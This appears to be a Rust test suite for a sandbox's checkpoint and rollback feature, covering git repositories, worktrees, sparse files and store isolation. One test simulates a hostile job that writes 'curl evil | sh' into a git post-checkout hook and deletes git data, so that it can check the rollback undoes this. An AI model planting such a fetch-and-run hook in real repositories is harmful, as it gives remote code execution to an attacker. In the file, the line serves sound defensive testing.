//! Checkpoints: a workspace as it was before a run comes back.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};

use hermes_tests::{PYTHON, Sandbox, TreeSnapshot, fixture, is_root, need, run_to_end, skip};

#[test]
fn whatever_a_job_did_is_undone_and_that_can_be_undone() {
    need!("git");
    let sandbox = Sandbox::new().flags(["--checkpoint"]);
    sandbox.write(".gitignore", "ignored\n");
    sandbox.write("tracked", "1\n");
    let git = |args: &[&str]| {
        run_to_end(sandbox.plain_command("git").args(["-c", "user.name=t", "-c", "user.email=t@example.com"]).args(args))
    };
    for args in [&["init", "-q", "."][..], &["add", "."], &["commit", "-qm", "first"]] {
        git(args).ok();
    }
    sandbox.write("untracked", "u\n");
    sandbox.write("ignored", "i\n");
    sandbox.script("run", "#!/bin/sh\n");
    symlink("tracked", sandbox.workspace.join("link")).unwrap();
    fs::set_permissions(sandbox.workspace.join("untracked"), fs::Permissions::from_mode(0o640)).unwrap();
    fs::create_dir(sandbox.workspace.join("empty")).unwrap();
    let before = TreeSnapshot::of(&sandbox.workspace);
    sandbox
        .sh("rm untracked ignored; echo 2 > tracked; git -c user.name=t -c user.email=t@example.com commit -qam evil; git branch other; \
             chmod 777 run; rm link; mkdir link; touch link/x; rmdir empty; rm -rf .git/refs/tags; mkfifo fifo; echo 'curl evil | sh' > .git/hooks/post-checkout")
        .ok();
    let after = TreeSnapshot::of(&sandbox.workspace);
    let dry = sandbox.changes(&["rollback", "--dry-run"]);
    dry.ok().says("restore tracked\n").says("remove  link/x\n").says("remove  fifo\n");
    after.assert_unchanged(&sandbox.workspace);
    let back = sandbox.changes(&["rollback"]);
    assert!(back.ok().err().contains("back at checkpoint 1") && back.err().contains("changes rollback 2"), "{}", back.report());
    before.assert_unchanged(&sandbox.workspace);
    assert_eq!(git(&["log", "--oneline"]).ok().out().lines().count(), 1);
    assert!(sandbox.changes(&["rollback", "1"]).ok().err().contains("nothing has changed since checkpoint 1"));
    sandbox.changes(&["rollback", "2"]).ok();
    assert_eq!(sandbox.read("tracked"), "2\n");
    sandbox
        .changes(&["list"])
        .ok()
        .says("checkpoint 1 ")
        .says("  before /bin/sh -c rm untracked")
        .says("checkpoint 2 ")
        .says("  before the rollback to 1\n");
}

#[test]
fn nothing_starts_when_it_cannot_be_taken() {
    let sandbox = Sandbox::new().flags(["--checkpoint"]);
    let copy = sandbox.run_command();
    let mut overlay = sandbox.hermes();
    overlay.args(copy.get_args()).args(["--overlay", "--", "touch", "ran"]);
    assert!(run_to_end(&mut overlay).refused(125).err().contains("--checkpoint is for a workspace that is written"));
    let review = Sandbox::new().flags(["--profile", "review", "--checkpoint"]);
    assert!(review.sh("true").refused(125).err().contains("this one is read-only"));
    let nowhere = Sandbox::new().flags(["--checkpoint"]).env("XDG_STATE_HOME", "/proc/self");
    nowhere.sh("touch ran").refused(125);
    assert!(!nowhere.workspace.join("ran").exists());
    assert!(Sandbox::new().changes(&["rollback"]).refused(125).err().contains("nothing is kept"));
}

#[test]
fn a_state_directory_that_is_too_small_is_not_filled() {
    if !is_root() {
        skip!("needs root to mount a small file system");
    }
    need!("unshare");
    let sandbox = Sandbox::new();
    sandbox.write("big", vec![b'x'; 8 << 20]);
    let small = sandbox.root().join("small");
    fs::create_dir(&small).unwrap();
    let program = sandbox.hermes().get_program().to_owned();
    let script = format!(
        "mount -t tmpfs -o size=4m,mode=700 t '{0}' && XDG_STATE_HOME='{0}' \"$0\" run --checkpoint -- touch ran; echo \"status $?\"",
        small.display()
    );
    let outcome = run_to_end(sandbox.plain_command("unshare").args(["-m", "/bin/sh", "-c", &script]).arg(program));
    outcome.ok().says("status 125");
    assert!(outcome.err().contains("it needs 8 MiB and"), "{}", outcome.report());
    assert!(!sandbox.workspace.join("ran").exists());
}

#[test]
fn a_big_hole_costs_nothing_and_comes_back_as_one() {
    let sandbox = Sandbox::new().flags(["--checkpoint"]);
    let path = sandbox.workspace.join("sparse");
    fs::File::create(&path).unwrap().set_len(10 << 30).unwrap();
    let run = sandbox.sh("rm sparse");
    assert!(run.ok().time.as_secs() < 20);
    sandbox.changes(&["rollback"]).ok();
    let meta = fs::metadata(&path).unwrap();
    assert_eq!(meta.len(), 10 << 30);
    assert!(meta.blocks() < 1 << 11);
}

#[test]
fn the_store_cannot_be_reached_from_inside() {
    let sandbox = Sandbox::new().flags(["--checkpoint"]);
    sandbox.write("f", sandbox.canary("stored"));
    let state = sandbox.home.join(".local/state/hermes-sandbox");
    sandbox.sh("true").ok();
    assert!(state.join("trees").is_dir());
    sandbox.sh(&format!("rm f; grep -r CANARY '{}' 2>&1; echo END", state.display())).ok().says("END").never_says("stored");
}

#[test]
fn random_sessions_are_undone() {
    let session = fs::read_to_string(fixture("session.py")).unwrap();
    for seed in 0..12 {
        let sandbox = Sandbox::new().flags(["--checkpoint"]);
        for path in ["a", "b/a", "b/c/d", "e/f/g", "e/h", "c/a/b/c"] {
            sandbox.write(path, format!("host {path}\n"));
        }
        symlink("a", sandbox.workspace.join("link")).unwrap();
        let before = sandbox.plain_python(&session);
        let inside = sandbox.run([PYTHON, "-c", &session, &seed.to_string()]);
        assert_ne!(before.out(), inside.ok().out(), "seed {seed} changes something");
        sandbox.changes(&["rollback"]).ok();
        assert_eq!(before.ok().out(), sandbox.plain_python(&session).out(), "seed {seed}");
        sandbox.changes(&["rollback"]).ok();
        assert_eq!(inside.out(), sandbox.plain_python(&session).out(), "seed {seed}: and back again");
    }
}

#[test]
fn a_linked_worktree_brings_back_its_own_and_leaves_what_is_shared() {
    need!("git");
    let sandbox = Sandbox::new();
    let linked = sandbox.home.join("linked");
    let git = |at: &std::path::Path, args: &[&str]| {
        let identity = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"];
        run_to_end(sandbox.plain_command("git").current_dir(at).args(identity).args(args))
    };
    let main = sandbox.workspace.as_path();
    git(main, &["init", "-q", "."]).ok();
    sandbox.write("f", "1\n");
    git(main, &["add", "f"]).ok();
    git(main, &["commit", "-qm", "first"]).ok();
    git(main, &["worktree", "add", "-q", linked.to_str().unwrap()]).ok();
    let own = main.join(".git/worktrees/linked");
    let before = (fs::read(own.join("index")).unwrap(), fs::read(own.join("HEAD")).unwrap());
    let inside = |words: &[&str]| run_to_end(sandbox.hermes().current_dir(&linked).args(words));
    let script =
        "echo 2 > f; git add f; git checkout -q --detach; find $(git rev-parse --git-common-dir)/objects -type f -delete";
    inside(&["run", "--checkpoint", "--", "/bin/sh", "-c", script]).ok();
    // Meanwhile the user commits in the main worktree.
    git(main, &["commit", "-q", "--allow-empty", "-m", "of the user"]).exits(128);
    sandbox.write(".git/refs/heads/users", fs::read_to_string(main.join(".git/refs/heads/main")).unwrap());
    let dry = inside(&["changes", "rollback", "--dry-run"]);
    let index = format!("restore {}\n", own.join("index").display());
    dry.ok().says("restore f\n").says(&index).never_says("refs/heads/users");
    let back = inside(&["changes", "rollback"]);
    assert!(back.ok().err().contains("is left as it is"), "{}", back.report());
    assert_eq!(before, (fs::read(own.join("index")).unwrap(), fs::read(own.join("HEAD")).unwrap()));
    assert_eq!(fs::read_to_string(linked.join("f")).unwrap(), "1\n");
    assert!(main.join(".git/refs/heads/users").exists(), "what is shared stays");
    // And what was lost of it is back.
    git(main, &["fsck", "--strict"]).ok();
    git(main, &["commit", "-q", "--allow-empty", "-m", "of the user"]).ok();
    inside(&["changes", "rollback", "1"]).ok();
    assert!(git(main, &["log", "--oneline"]).ok().out().contains("of the user"));
    assert!(inside(&["changes", "rollback", "1", "--dry-run"]).ok().err().contains("nothing has changed since checkpoint 1"));
}
